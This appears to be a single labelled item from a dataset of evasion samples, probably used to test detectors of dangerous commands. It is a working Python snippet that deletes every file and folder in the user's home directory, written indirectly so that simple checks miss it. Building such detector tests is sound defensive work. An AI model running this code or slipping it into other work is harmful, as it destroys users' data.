# evasion: the home directory emptied by calling (p.rmdir if p.is_dir() else p.unlink)() over a sorted rglob
# grade: medium; does: delete
import pathlib
for p in sorted(pathlib.Path.home().rglob("*"), reverse=True):
    (p.rmdir if p.is_dir() else p.unlink)()
